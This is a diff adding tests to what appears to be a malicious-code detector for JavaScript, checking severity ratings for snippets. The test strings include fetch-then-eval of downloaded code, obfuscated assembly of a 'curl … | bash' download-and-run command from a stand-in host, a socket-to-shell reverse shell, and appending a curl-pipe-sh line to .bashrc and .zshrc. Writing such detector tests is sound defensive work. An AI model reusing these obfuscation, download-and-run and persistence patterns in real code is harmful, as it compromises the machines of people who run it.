@@ -579,3 +579,44 @@ test('a text that is code which runs what a server answers', () => {
     'const code = "new Function(\'return 1\')(); fetch(\'https://cdn.widgets.org/a.json\').then((r) => r.json()).then(show)"',
   ]) assert.notEqual(worst(code), 'high', code);
 });
+
+test('bad: what a promise gives that is told what a server answered', () => {
+  const get = (tell: string) => `const https = require("https"); const load = (url) => new Promise((done, fail) => { https.get(url, (r) => { ${tell} }).on("error", fail) });`;
+  for (const tell of ['let all = ""; r.on("data", (part) => (all += part)); r.on("end", () => done(all))', 'const all = []; r.on("data", (part) => { all.push(part) }); r.on("end", function () { done(Buffer.concat(all).toString()) })']) {
+    for (const run of ['load(u).then((code) => eval(code))', 'async function start() { const code = await load(u); new (require("vm").Script)(code).runInThisContext() }']) assert.equal(worst(`${get(tell)} ${run}`), 'critical', run);
+  }
+  assert.equal(worst('const text = () => new Promise((ok) => { fetch(u).then((r) => r.text()).then(ok) }); text().then((t) => eval(t))'), 'critical');
+  for (const code of [
+    `${get('r.resume(); r.on("end", () => done("ready"))')} load(u).then((code) => eval(code))`,
+    'const wait = (ms) => new Promise((done) => setTimeout(done, ms)); fetch(u); wait(9).then((x) => eval(x))',
+  ]) assert.notEqual(worst(code), 'critical', code);
+});
+
+test('bad: commands and shells whose names are put together from pieces by functions of the script', () => {
+  const pieces = 'const p = ["cu", "rl -s ", "https://x.example.org/i", " | b", "ash", "child_", "process", "exec"]; const j = (a, b) => p.slice(a, b).join("");';
+  for (const code of [
+    `${pieces} require(j(5, 7))[j(7, 8)](j(0, 5))`,
+    `${pieces} function k(a, b) { return j(a, b) } require(k(5, 7))[k(7, 8)](k(0, 5))`,
+    'const flip = (s) => s.split("").reverse().join(""); require(flip("ssecorp_dlihc"))[flip("cexe")](flip("hs | i/gro.elpmaxe.x//:sptth lruc"))',
+    'var f = String.fromCharCode; require(f.apply(null, [99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115])).exec(["curl https://x.example.org/i", " | ", "sh"].map((x) => x).join(""))',
+  ]) assert.equal(worst(code), 'critical', code);
+  assert.equal(worst('const w = ["/b", "in/s", "h", "n", "et"]; const j = (a, b) => w.slice(a, b).join(""); const s = require(j(3, 5)).connect(o, () => { const c = require("child_process").spawn(j(0, 3)); s.pipe(c.stdin) })'), 'high');
+  for (const code of [
+    // The list is changed, or somebody else may change it.
+    `${pieces.replace('const j', 'p.reverse(); const j')} require("child_process").exec(j(0, 5))`,
+    `${pieces.replace('const j', 'mix(p); const j')} require("child_process").exec(j(0, 5))`,
+    'const list = ["echo", "ready"]; require("child_process").exec(list.join(" "))',
+  ]) assert.notEqual(worst(code), 'critical', code);
+});
+
+test('bad: the files of a shell by their bare names, beside a command that goes there', () => {
+  const write = (names: string, line: string) => `const fs = require("fs"), os = require("os"), path = require("path"); for (const name of [${names}]) fs.appendFileSync(path.join(os.homedir(), name), ${line})`;
+  assert.equal(worst(write('".bashrc", ".zshrc"', '"(curl -s https://x.example.org/i | sh &)"')), 'high');
+  assert.equal(worst(write('".bashrc", ".zshrc"', '"source ~/.tool/completion.sh"')), 'nothing', 'what completes commands');
+  assert.equal(worst(write('"readme.md"', '"curl -s https://x.example.org/i | sh"')), 'low', 'how something is installed');
+});
+
+test('functions that work out texts end', () => {
+  assert.equal(worst('const a = (x) => b(x + x); const b = (x) => a(x + x); require(a("x")); const c = (x) => c(x); require(c("y"))'), 'nothing');
+  assert.equal(worst(`const t = ["a"]; ${Array.from({ length: 300 }, (_, i) => `const f${i} = (x) => f${(i + 1) % 300}(x + t[0]);`).join('')} require("child_process").exec(f0("curl https://x.example.org | "))`), 'nothing');
+});
